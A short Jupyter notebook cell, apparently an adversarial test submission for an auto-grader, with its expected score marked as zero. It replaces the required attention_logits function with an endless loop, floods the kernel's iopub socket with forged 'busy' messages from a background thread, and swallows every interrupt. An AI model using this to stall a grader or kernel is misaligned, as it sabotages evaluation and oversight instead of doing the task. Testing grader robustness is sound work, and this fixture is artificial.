"""Floods the judge with messages from a thread, so that it comes to nothing else; its clocks go on."""
# part: 3
# earns: 0
# %%
import threading

KERNEL = get_ipython().kernel


def attention_logits(q, K, D_qk):
    while True:
        pass


def flood():
    parent = KERNEL.get_parent("shell")
    frames = [b"kernel", b"<IDS|MSG>", b""] + KERNEL.session.serialize(
        KERNEL.session.msg("status", {"execution_state": "busy"}, parent=parent))[2:]
    while True:
        for _ in range(1000):
            KERNEL.iopub_thread.socket.send_multipart(frames)


threading.Thread(target=flood, daemon=True).start()
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
